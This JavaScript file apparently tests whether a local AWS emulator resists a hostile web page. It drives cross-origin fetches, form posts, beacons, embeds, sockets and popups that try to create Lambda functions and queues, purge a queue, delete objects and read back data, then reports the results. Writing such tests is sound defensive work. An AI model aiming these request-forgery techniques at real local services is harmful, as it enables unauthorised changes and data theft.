/**
 * What a hostile page tries on a server that it can reach: every way in which a browser sends a request for a page of another
 * origin. `PLAN` stands before it: the bases to attack, whether windows may be opened, and where to go on. What could be read is
 * told to the page's own server; what was done is seen on the attacked one. Names tell the base and the way: `a3-beacon-text`.
 */
const { tag } = globalThis.PLAN
const bases = globalThis.PLAN.bases ?? [location.origin]
/** Browsers slow the timers of a page that stands behind its own windows; those of a worker they do not. */
const clock = new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data }) => setTimeout(postMessage, data.ms, data.id)'])))
const pause = (ms) =>
  new Promise((resolve) => {
    const id = Math.random()
    clock.addEventListener('message', ({ data }) => data === id && resolve())
    clock.postMessage({ ms, id })
  })
const seen = []
/** That we are refused is no secret: a page of a rebound name may read it. */
const tell = (base, way, what) => {
  if (!String(what).includes('not taken here')) seen.push(`${base} ${way}: ${String(what).slice(0, 120)}`)
}

const functionOf = (name) =>
  JSON.stringify({
    FunctionName: name,
    Runtime: 'nodejs22.x',
    Role: 'arn:aws:iam::000000000000:role/x',
    Handler: 'index.handler',
    Code: { ZipFile: globalThis.PLAN.zip },
    Description: '',
  })
const queueForm = (name) => `Action=CreateQueue&Version=2012-11-05&QueueName=${name}`
const STATES = { 'x-amz-target': 'AWSStepFunctions.CreateStateMachine', 'content-type': 'application/x-amz-json-1.0' }
const machineOf = (name) =>
  JSON.stringify({
    name,
    roleArn: 'arn:aws:iam::000000000000:role/x',
    definition: '{"StartAt":"P","States":{"P":{"Type":"Pass","End":true}}}',
  })

/** Links that would act if GET did. */
const linksOf = (name) => [
  `/?${queueForm(`${name}-root`)}`,
  `/?X-Amz-x=1&${queueForm(`${name}-prefix`)}`,
  `/000000000000/victim?Action=SendMessage&Version=2012-11-05&MessageBody=${name}`,
  '/000000000000/victim?Action=PurgeQueue&Version=2012-11-05',
  `/?X-Amz-Credential=a%2F20260101%2Fus-east-1%2Fsns%2Faws4_request&Action=CreateTopic&Version=2010-03-31&Name=${name}`,
]

/** POSTs that a form can make: path, type of encoding, fields. The one of text is JSON when it arrives. */
const formsOf = (name) => {
  const json = functionOf(`${name}-text`)
  const cut = json.lastIndexOf('""') + 1
  return [
    ['/2015-03-31/functions', 'text/plain', [[json.slice(0, cut), json.slice(cut)]]],
    ['/', 'application/x-www-form-urlencoded', [...new URLSearchParams(queueForm(`${name}-form`))]],
    [`/?X-Amz-Signature=0&${queueForm(`${name}-signature`)}`, 'application/x-www-form-urlencoded', [['x', '1']]],
    [`/?${queueForm(`${name}-parts`)}`, 'multipart/form-data', [['x', '1']]],
    ['/victim', 'multipart/form-data', [['key', name]]],
    ['/_regente/console/templates/parallel', 'text/plain', [['x', '1']]],
    ['/2015-03-31/functions/victim/invocations', 'text/plain', [['{"a":"', '"}']]],
  ]
}

function submit(base, [path, enctype, fields], target) {
  const form = document.createElement('form')
  Object.assign(form, { method: 'POST', enctype, action: base + path, target })
  for (const [name, value] of fields) form.append(Object.assign(document.createElement('input'), { name, value }))
  document.body.append(form)
  form.submit()
  form.remove()
}

/** What a request gives to read within two seconds, if anything. One that the browser does not even give up then is left. */
const sent = (url, options = {}) => {
  const tried = fetch(url, { ...options, signal: AbortSignal.timeout(2_000) })
  return Promise.race([tried.then((answer) => (answer.type === 'opaque' ? undefined : answer.text())), pause(3_000)])
}

async function send(base, name) {
  const text = { method: 'POST', headers: { 'content-type': 'text/plain' } }
  const form = { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' } }
  const json = { method: 'POST', headers: { 'content-type': 'application/json' } }
  const functions = `${base}/2015-03-31/functions`
  const requests = {
    'no-cors-text': [functions, { ...text, mode: 'no-cors', body: functionOf(`${name}-no-cors-text`) }],
    'no-cors-none': [functions, { method: 'POST', mode: 'no-cors', body: new Blob([functionOf(`${name}-no-cors-none`)]) }],
    'no-cors-form': [base, { ...form, mode: 'no-cors', body: queueForm(`${name}-no-cors-form`) }],
    'no-cors-json': [functions, { ...json, mode: 'no-cors', body: functionOf(`${name}-no-cors-json`) }],
    'cors-text': [functions, { ...text, body: functionOf(`${name}-cors-text`) }],
    'cors-json': [functions, { ...json, body: functionOf(`${name}-cors-json`) }],
    'cors-target': [base, { method: 'POST', headers: STATES, body: machineOf(`${name}-cors-target`) }],
    'cors-put': [`${base}/${name}-cors-put`, { method: 'PUT' }],
    'cors-delete': [`${base}/victim/object.txt`, { method: 'DELETE' }],
    'cors-signed': [
      base,
      { ...form, headers: { ...form.headers, authorization: 'AWS4-HMAC-SHA256 x' }, body: queueForm(`${name}-signed`) },
    ],
    keepalive: [functions, { ...text, mode: 'no-cors', keepalive: true, body: functionOf(`${name}-keepalive`) }],
  }
  const tries = Object.entries(requests).map(async ([way, [url, options]]) => {
    const text = await sent(url, options)
    if (text !== undefined) tell(base, way, text)
  })
  await Promise.allSettled([...tries, ...linksOf(`${name}-fetch`).map((path) => sent(base + path, { mode: 'no-cors' }))])
  navigator.sendBeacon(functions, functionOf(`${name}-beacon-text`))
  navigator.sendBeacon(base, new URLSearchParams(queueForm(`${name}-beacon-form`)))
  navigator.sendBeacon(`${base}/?${queueForm(`${name}-beacon-parts`)}`, new FormData())
  navigator.sendBeacon(functions, new Blob([functionOf(`${name}-beacon-json`)], { type: 'application/json' }))
}

async function read(base) {
  const paths = ['/victim/object.txt', '/_regente/health', '/2015-03-31/functions', '/_regente/sqs/messages?QueueUrl=victim']
  const tries = paths.map(async (path) => {
    const text = await sent(base + path)
    if (text !== undefined) tell(base, `read ${path}`, text)
  })
  await Promise.allSettled(tries)
}

/** Elements that load what a link names. `tellsLoad`: that it loaded tells the page something that it should not know. */
async function embed(base, name) {
  const load = (tagName, attribute, path, more = {}, tellsLoad = false) =>
    new Promise((resolve) => {
      const element = Object.assign(document.createElement(tagName), more)
      element.onload = () => resolve(tellsLoad && tell(base, `${tagName} ${path}`, 'was loaded'))
      element.onerror = resolve
      pause(1_500).then(resolve)
      element[attribute] = base + path
      document.body.append(element)
    })
  await Promise.all([
    load('img', 'src', '/victim/pixel.svg', {}, true),
    load('script', 'src', '/victim/script.js', {}, true),
    load('link', 'href', '/victim/style.css', { rel: 'stylesheet' }, true),
    load('iframe', 'src', '/victim/page.html'),
    load('object', 'data', '/victim/page.html'),
    ...linksOf(`${name}-img`).map((path) => load('img', 'src', path)),
    ...linksOf(`${name}-prefetch`).map((path) => load('link', 'href', path, { rel: 'prefetch' })),
    ...linksOf(`${name}-iframe`).map((path) => load('iframe', 'src', path)),
  ])
  if (globalThis.leaked !== undefined) tell(base, 'script', globalThis.leaked)
  for (const frame of document.querySelectorAll('iframe')) {
    try {
      if (frame.contentDocument.body.textContent !== '') tell(base, 'iframe', frame.contentDocument.body.textContent)
    } catch {}
  }
}

async function listen(base) {
  const source = new EventSource(`${base}/_regente/live?executionArn=a`)
  source.onopen = () => tell(base, 'EventSource', 'is open')
  const socket = new WebSocket(base.replace('http', 'ws'))
  socket.onopen = () => tell(base, 'WebSocket', 'is open')
  await pause(1_000)
  source.close()
  socket.close()
}

async function navigate(base, name, index) {
  for (const form of formsOf(`${name}-frame`)) {
    const frame = Object.assign(document.createElement('iframe'), { name: `${index}-${Math.random()}` })
    document.body.append(frame)
    submit(base, form, frame.name)
  }
  const popup = window.open('about:blank', `popup-${index}`)
  if (popup === null) return tell(base, 'popup', 'was blocked: the test tests less than it should')
  const isBlank = () => {
    try {
      return popup.document.URL === 'about:blank'
    } catch {
      return false
    }
  }
  const until = async (isThere) => {
    for (const end = Date.now() + 5_000; !isThere() && Date.now() < end; ) await pause(100)
  }
  for (const form of formsOf(`${name}-popup`)) {
    submit(base, form, `popup-${index}`)
    await pause(300)
    // What is on its way when the next form is sent would be given up: one server alone is waited for.
    if (bases.length > 1) continue
    await until(() => !isBlank())
    popup.location = 'about:blank'
    await until(isBlank)
  }
  for (const path of [...linksOf(`${name}-link`), '/victim/page.html', '/']) {
    popup.location = base + path
    await pause(300)
    try {
      const text = popup.document.body.textContent
      if (text !== '') tell(base, 'popup', text)
    } catch {}
  }
  popup.close()
}

const attack = async (base, index) => {
  const name = `${tag}${index}`
  await Promise.allSettled([send(base, name), read(base), embed(base, name), listen(base), navigate(base, name, index)])
}
await fetch(`${globalThis.PLAN.reportTo}/begin`)
// Each base is attacked at the same time as the others.
await Promise.all(bases.map(attack))
await fetch(`${globalThis.PLAN.reportTo}/done`, { method: 'POST', body: JSON.stringify(seen) })
